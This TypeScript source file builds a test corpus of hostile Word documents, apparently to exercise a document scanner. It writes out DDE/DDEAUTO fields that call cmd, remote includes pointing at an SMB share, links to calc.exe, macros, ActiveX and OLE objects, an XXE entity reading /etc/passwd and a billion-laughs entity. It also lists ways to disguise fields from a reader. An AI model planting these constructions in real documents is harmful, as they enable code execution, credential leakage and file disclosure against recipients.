// Fifty-two DOCX files that run, fetch or hide something, in plain sight and in disguises (P16, P21).
import type { CorpusFile } from "./corpus-file.ts";
import { complexField, type DocxFile, docxFile, instruction, paragraph, run } from "./docx-file.ts";

const share = String.raw`\\\\10.0.0.1\\x`;

const fields: Readonly<Record<string, string>> = {
  DDE: String.raw`DDE c:\\cmd "x"`,
  DDEAUTO: String.raw`DDEAUTO c:\\cmd "x"`,
  INCLUDEPICTURE: `INCLUDEPICTURE "${share}.png" \\d`,
  INCLUDETEXT: 'INCLUDETEXT "https://example.com/a"',
  IMPORT: `IMPORT "${share}.png"`,
  LINK: `LINK Excel.Sheet.12 "${share}.xlsx" "A1" \\a`,
  EMBED: "EMBED Package",
  DATABASE: 'DATABASE \\d "a.mdb" \\c "Provider=x"',
  RD: `RD "${share}.docx"`,
  HYPERLINK: 'HYPERLINK "file:///c:/windows/calc.exe"',
  MACROBUTTON: "MACROBUTTON Run here",
  AUTOTEXT: "AUTOTEXT a",
  MERGEFIELD: "MERGEFIELD name",
  CONTROL: "CONTROL Forms.CommandButton.1",
};

/** Ways to write a field so that a careless reader overlooks it. */
const disguises: Readonly<Record<string, (text: string) => DocxFile>> = {
  "in one element": (text) => ({
    body: `<w:p><w:fldSimple w:instr="${text.replaceAll('"', "&quot;")}">${run("result")}</w:fldSimple></w:p>`,
  }),
  "split into letters": (text) => inBody(complexField(Array.from(text, instruction).join(""))),
  "spelled by another field": (text) => {
    const codes = Array.from(text.slice(0, 20), (letter) => letter.charCodeAt(0)).join(" ");
    return inBody(complexField(complexField(instruction(`QUOTE ${codes}`))));
  },
  "after a page number": (text) => inBody(complexField(instruction(`PAGE ${text}`))),
  "inside a page number": (text) =>
    inBody(complexField(instruction("PAGE ") + complexField(instruction(text)))),
  "in small letters and entities": (text) =>
    inBody(
      complexField(instruction(text.toLowerCase().replace(/^./, (letter) => `&#${letter.charCodeAt(0)};`))),
    ),
  "in an insertion": (text) =>
    inBody(`<w:ins w:id="1" w:author="a">${complexField(instruction(text))}</w:ins>`),
  "in a text box": (text) =>
    inBody(
      `<w:r><w:pict><v:textbox><w:txbxContent><w:p>${complexField(instruction(text))}</w:p></w:txbxContent></v:textbox></w:pict></w:r>`,
    ),
  "in a header": (text) => ({
    body: '<w:sectPr><w:headerReference w:type="default" r:id="rId2"/></w:sectPr>',
    related: [
      {
        id: "rId2",
        kind: "header",
        target: "header1.xml",
        root: "w:hdr",
        content: `<w:p>${complexField(instruction(text))}</w:p>`,
      },
    ],
  }),
};

const external = (kind: string, target = "https://example.com/a", body = ""): DocxFile => ({
  body,
  related: [{ id: "rId2", kind, target, isExternal: true }],
});
const setting = (content: string): DocxFile => ({
  related: [{ id: "rId2", kind: "settings", target: "settings.xml", root: "w:settings", content }],
});
const picture = (attribute: string) =>
  `<w:p><w:r><w:drawing><wp:inline><a:blip ${attribute}/></wp:inline></w:drawing></w:r></w:p>`;

const others: Readonly<Record<string, DocxFile>> = {
  "a template from the web": external("attachedTemplate"),
  "an object from the web": external("oleObject"),
  "a frame from the web": external("frame"),
  "a part document": external("subDocument", "file:///a.docx", `<w:subDoc r:id="rId2"/>`),
  "a picture from the web": external("image", "https://example.com/a.png", picture('r:link="rId2"')),
  "an embedded picture from a share": external("image", `file://10.0.0.1/a.png`, picture('r:embed="rId2"')),
  "an old picture from a share": external(
    "image",
    "file://10.0.0.1/a.png",
    `<w:p><w:r><w:pict><v:imagedata r:id="rId2"/></w:pict></w:r></w:p>`,
  ),
  "a link to a program": external(
    "hyperlink",
    "file:///c:/windows/calc.exe",
    `<w:p><w:hyperlink r:id="rId2">${run("here")}</w:hyperlink></w:p>`,
  ),
  "a link of a picture": external(
    "hyperlink",
    "file:///a",
    `<w:p><w:r><w:drawing><wp:inline><wp:docPr id="1" name="a"><a:hlinkClick r:id="rId2"/></wp:docPr></wp:inline></w:drawing></w:r></w:p>`,
  ),
  "a video from the web": external("http://schemas.microsoft.com/office/2011/relationships/webVideoPr"),
  "a macro project": { more: [{ name: "word/vbaProject.bin", content: "macro" }] },
  "a macro-enabled type": { mainType: "application/vnd.ms-word.document.macroEnabled.main+xml" },
  "an ActiveX control": {
    body: `<w:p><w:r><w:object><w:control r:id="rId2" w:name="a"/></w:object></w:r></w:p>`,
    related: [{ id: "rId2", kind: "control", target: "activeX/activeX1.xml", content: "<a/>" }],
  },
  "an embedded program": {
    body: `<w:p><w:r><w:object><o:OLEObject Type="Embed" ProgID="Package" r:id="rId2"/></w:object></w:r></w:p>`,
    related: [{ id: "rId2", kind: "oleObject", target: "embeddings/a.bin", content: "MZ" }],
  },
  "a button of its own": { more: [{ name: "customUI/customUI.xml", content: `<customUI onLoad="run"/>` }] },
  "a chunk of HTML": {
    body: `<w:altChunk r:id="rId2"/>`,
    related: [{ id: "rId2", kind: "aFChunk", target: "a.html", content: "<script>alert(1)</script>" }],
  },
  "fields that update themselves": setting(`<w:updateFields w:val="true"/>`),
  "a mail merge": setting(
    `<w:mailMerge><w:connectString w:val="Provider=x"/><w:query w:val="x"/></w:mailMerge>`,
  ),
  "a template in the settings": setting(`<w:attachedTemplate r:id="rId1"/>`),
  "a document type": { prologue: `<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>` },
  "a billion laughs": { prologue: `<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]>` },
};

/** Fields that are disguised in every way. */
const disguised = "DDEAUTO";

export function hostileDocxCorpus(): CorpusFile[] {
  const plain = Object.entries(fields).map(
    ([name, text]) => [`a field ${name}`, inBody(complexField(instruction(text)))] as const,
  );
  const text = fields[disguised] ?? "";
  const hidden = Object.entries(disguises).map(
    ([way, file]) => [`a field ${disguised} ${way}`, file(text)] as const,
  );
  const fetched = (["INCLUDEPICTURE", "HYPERLINK"] as const).flatMap((name) =>
    Object.entries(disguises)
      .slice(0, 4)
      .map(([way, file]) => [`a field ${name} ${way}`, file(fields[name] ?? "")] as const),
  );
  return [...plain, ...hidden, ...fetched, ...Object.entries(others)].map(([name, file]) => ({
    name,
    write: () => docxFile(file),
    fileName: "a.docx",
    type: "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
  }));
}

function inBody(content: string): DocxFile {
  return { body: `<w:p>${content}</w:p>${paragraph("Yours")}` };
}
